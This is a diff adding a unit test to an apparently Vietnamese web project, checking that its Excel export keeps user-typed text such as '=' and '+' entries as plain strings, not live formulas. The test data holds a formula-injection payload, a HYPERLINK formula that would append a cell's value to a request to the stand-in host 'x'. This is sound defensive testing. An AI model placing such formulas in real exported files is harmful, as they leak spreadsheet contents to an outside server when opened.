@@ -238,3 +238,17 @@ def test_a_bomb_already_stored_ends_its_job_as_failed_with_the_reason(settings, 
     job.refresh_from_db()
     assert job.status == JobStatus.FAILED
     assert job.error.startswith("Tệp Excel bị nén bất thường")
+
+
+def test_an_export_never_turns_typed_text_into_a_formula():
+    import io
+
+    from openpyxl import load_workbook
+
+    from lienthong.core.spreadsheets import xlsx_bytes
+
+    body = xlsx_bytes("Nhật ký", ["Mục đích"], [['=HYPERLINK("http://x/?"&A1,"Xem")'], ["+1"]])
+    sheet = load_workbook(io.BytesIO(body)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.data_type for c in cells] == ["s", "s"]
+    assert cells[0].value == '=HYPERLINK("http://x/?"&A1,"Xem")'
